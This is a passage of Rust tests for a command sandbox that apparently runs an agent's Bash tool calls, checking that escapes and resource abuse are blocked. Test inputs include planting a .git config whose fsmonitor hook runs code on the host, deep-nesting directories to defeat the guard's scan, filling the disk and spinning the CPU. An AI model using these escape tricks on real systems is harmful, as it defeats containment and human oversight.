        ("[sandbox]\nuid = 0\n", "sandbox.uid"),
        (
            "[sandbox.limits]\nmemory_mb = 0\n",
            "sandbox.limits.memory_mb",
        ),
        (
            "[sandbox.limits]\ndefault_timeout_ms = 0\n",
            "sandbox.limits.default_timeout_ms",
        ),
    ] {
        std::fs::write(&s.config, cfg).unwrap();
        let out = std::process::Command::new(bin("runner"))
            .args([
                "call",
                "--workspace",
                s.ws.to_str().unwrap(),
                "--config",
                s.config.to_str().unwrap(),
                "Bash",
                r#"{"command": "touch ran"}"#,
            ])
            .env("RUNNER_STATE_DIR", s.dir.path().join("state"))
            .output()
            .unwrap();
        assert_ne!(out.status.code(), Some(0), "{cfg}");
        let all = String::from_utf8_lossy(&out.stderr).to_string()
            + &String::from_utf8_lossy(&out.stdout);
        assert!(all.contains(key), "{cfg}: {all}");
        assert_absent(&s.ws.join("ran"));
    }
}

/// Class 3: a command cannot keep a planted `.git` by making the check
/// after it fail (a tree nested deeper than the scan goes): what could be
/// seen is put back, and the call fails saying so.
#[test]
fn a_scan_that_cannot_finish_still_puts_git_state_back() {
    let s = sandbox();
    s.real_repo();
    let config = std::fs::read_to_string(s.ws.join(".git/config")).unwrap();
    let marker = s.dir.path().join("deep-ran");
    let v = s.call_raw(
        "Bash",
        serde_json::json!({"command": format!(
            "mkdir -p $(printf 'a/%.0s' $(seq 1 260)); mv .git .g && mkdir .git && cp -r .g/HEAD .g/objects .g/refs .git/ && \
             printf '[core]\\n\\tfsmonitor = touch {m}\\n' > .git/config",
            m = marker.display()
        )}),
    );
    assert_eq!(v["status"], "error", "{v}");
    assert!(
        v["output"]["error"]
            .as_str()
            .unwrap()
            .contains("could not be checked"),
        "{v}"
    );
    assert_eq!(
        std::fs::read_to_string(s.ws.join(".git/config")).unwrap(),
        config
    );
    s.host_git_runs_nothing(&marker);
}

/// Class 3: git accepts `objects` and `refs` as symlinks (or executable
/// files), so a directory with a `HEAD` is a repository to the guard
/// whatever the type of its other entries — the workspace root included.
#[test]
fn a_bare_repository_made_of_symlinks_does_not_survive_the_command() {
    let s = sandbox();
    s.real_repo();
    let marker = s.dir.path().join("symlinked-ran");
    let out = s.bash(&format!(
        "mv .git/HEAD .git/HEAD.orig && echo 'ref: refs/heads/master' > HEAD && ln -s .git/objects objects && ln -s .git/refs refs && \
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {m}; false\"\\n' > config && \
         mkdir -p src && printf x > src/HEAD && printf '#!/bin/sh\\n' > src/objects && chmod +x src/objects && cp src/objects src/refs && \
         printf '[core]\\n\\tfsmonitor = touch {m}\\n' > src/config && echo done",
        m = marker.display()
    ));
    assert_eq!(stdout(&out), "done\n", "{out}");
    assert_absent(&s.ws.join("config"));
    assert_absent(&s.ws.join("src/config"));
    s.host_git_runs_nothing(&marker);
}

/// Class 7: a workspace whose size cannot be measured while a command runs
/// (a tree deeper than the walk goes) counts as too large: the command is
/// stopped rather than left to fill the disk.
#[test]
fn a_workspace_that_cannot_be_measured_stops_the_command() {
    let s = sandbox();
    s.small_workspace_limit();
    let v = s.call_raw(
        "Bash",
        serde_json::json!({"command": "mkdir -p $(printf 'd/%.0s' $(seq 1 520)); for i in $(seq 1 30); do head -c 1M /dev/zero > f$i; sleep 0.1; done; echo finished", "timeout_ms": 30000}),
    );
    assert_eq!(v["status"], "error", "{v}");
    assert!(!v["output"].to_string().contains("finished"), "{v}");
    let written = (1..=30)
        .filter(|i| s.ws.join(format!("f{i}")).exists())
        .count();
    assert!(written < 30, "the command ran to the end: {v}");
}

fn notes(out: &serde_json::Value) -> Vec<String> {
    out["sandbox_notes"]
        .as_array()
        .map(|a| a.iter().map(|n| n.as_str().unwrap().to_string()).collect())
        .unwrap_or_default()
}

/// The one note starting with `start`.
fn note<'a>(n: &'a [String], start: &str, out: &serde_json::Value) -> &'a str {
    let found: Vec<&String> = n.iter().filter(|n| n.starts_with(start)).collect();
    assert_eq!(found.len(), 1, "{start}: {out}");
    found[0]
}

/// A refused write says which setting protects the path: a protected path
/// (built in, or `files.protected_paths`), git's control state, a hidden
/// path, or a place outside the writable roots. Ordinary work has no notes.
#[test]
fn refused_writes_say_which_setting_protects_the_path() {
    let s = sandbox();
    std::fs::write(
        &s.config,
        "[files]\nprotected_paths = [\"deploy.sh\"]\n[sandbox.limits]\nprocesses = 64\n",
    )
    .unwrap();
    std::fs::write(s.ws.join("deploy.sh"), "#!/bin/sh\n").unwrap();
    std::fs::create_dir_all(s.ws.join(".git/info")).unwrap();
    std::fs::write(s.ws.join(".git/info/exclude"), "").unwrap();
    std::fs::write(s.ws.join(".env"), "K=v\n").unwrap();

    let ok = s.bash("echo ok > fine.txt; cat fine.txt; ls missing 2>&1; true");
    assert!(stdout(&ok).starts_with("ok\n"), "{ok}");
    assert!(ok.get("sandbox_notes").is_none(), "{ok}");

    let out = s.bash(
        "echo x >> deploy.sh; echo x >> .bashrc; echo x >> .git/info/exclude; echo x > .env; \
         echo x > /etc/runner-note; touch /usr/runner-note",
    );
    assert_ne!(out["exit_code"], 0, "{out}");
    let n = notes(&out);
    let p = note(&n, "`deploy.sh`, `.bashrc` are protected", &out);
    assert!(
        p.contains("`files.protected_paths` in worker.toml"),
        "{out}"
    );
    note(&n, "`.git/info/exclude` is git control state", &out);
    let h = note(&n, "`.env` is hidden", &out);
    assert!(h.contains("`files.hidden_paths`"), "{out}");
    let o = note(
        &n,
        "`/etc/runner-note`, `/usr/runner-note` are outside",
        &out,
    );
    assert!(
        o.contains(&format!("`{}`", s.ws.display())) && o.contains("`sandbox.limits.tmp_mb`"),
        "{out}"
    );
    assert_eq!(n.len(), 4, "{out}");
    assert_eq!(
        std::fs::read_to_string(s.ws.join("deploy.sh")).unwrap(),
        "#!/bin/sh\n"
    );
}

/// Each limit a command runs into is a note naming its key: the wall
/// clock, the output cap, CPU time, the private /tmp.
#[test]
fn limits_a_command_hits_are_notes_naming_the_key() {
    let s = sandbox();
    std::fs::write(
        &s.config,
        "[sandbox.limits]\ncpu_seconds = 1\ntmp_mb = 2\noutput_bytes = 65536\ndefault_timeout_ms = 20000\nmax_timeout_ms = 30000\n",
    )
    .unwrap();
    let out = s.bash_with(
        serde_json::json!({"command": "sleep 100", "timeout_ms": 1000}),
        &[],
    );
    let n = notes(&out);
    let t = note(
        &n,
        "the command was stopped at its wall-clock limit of 1000 ms",
        &out,
    );
    assert!(
        t.contains("`timeout_ms` (at most 30000 ms, `sandbox.limits.max_timeout_ms`"),
        "{out}"
    );

    let out = s.bash("yes runner | head -c 5000000");
    note(
        &notes(&out),
        "output was cut at `sandbox.limits.output_bytes` = 65536 bytes",
        &out,
    );

    let out = s.bash("while :; do :; done");
    assert_eq!(out["exit_code"], 128 + 24, "SIGXCPU: {out}");
    let n = notes(&out);
    let c = note(&n, "a process used up its CPU time", &out);
    assert!(c.contains("`sandbox.limits.cpu_seconds` = 1 s"), "{out}");

    let out = s.bash("head -c 3000000 /dev/zero > /tmp/big; echo wrote=$?");
    assert!(stdout(&out).contains("wrote=1"), "{out}");
    note(&notes(&out), "the private /tmp is full", &out);
}
